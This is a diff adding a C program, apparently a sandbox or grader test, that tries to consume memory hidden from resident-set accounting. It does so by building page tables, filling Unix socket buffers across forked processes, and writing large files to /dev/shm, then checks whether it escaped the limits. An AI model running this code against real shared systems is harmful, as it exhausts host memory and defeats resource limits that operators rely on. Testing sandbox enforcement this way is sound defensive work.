@@ -1,0 +1,47 @@
+// Takes memory that no resident set shows: page tables of memory that is only read
+// ("tables"), buffers of connected sockets ("sockets"), files in /dev/shm ("shared").
+#include "attack.h"
+#include <sys/mman.h>
+#include <sys/socket.h>
+
+static char block[1 << 20];
+
+static void tables(void) {
+  const size_t size = 1UL << 39; // a gigabyte of tables
+  volatile char *p = mmap(0, size, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
+  if (p == MAP_FAILED) return;
+  madvise((void *)p, size, MADV_NOHUGEPAGE);
+  for (size_t at = 0; at < size; at += 2 << 20) (void)p[at];
+}
+
+static void sockets(void) {
+  for (int i = 0; i < 3; i++)
+    if (fork() == 0) break;
+  int pair[2];
+  while (socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0, pair) == 0)
+    for (int i = 0; i < 2; i++)
+      while (write(pair[i], block, 65536) > 0) continue;
+}
+
+static void shared(void) {
+  char name[64];
+  for (int i = 0; i < 20; i++) {
+    snprintf(name, sizeof name, "/dev/shm/grader-%d-%d", getpid(), i);
+    int fd = open(name, O_CREAT | O_WRONLY, 0600);
+    for (int k = 0; k < 25; k++)
+      if (write(fd, block, sizeof block) < 0) return;
+    close(fd);
+    usleep(50000);
+  }
+}
+
+int main(int argc, char **argv) {
+  memset(block, 1, sizeof block);
+  const char *what = argc > 1 ? argv[1] : "";
+  if (!strcmp(what, "tables")) tables();
+  if (!strcmp(what, "sockets")) sockets();
+  if (!strcmp(what, "shared")) shared();
+  sleep(2);
+  escaped(what);
+  return 0;
+}
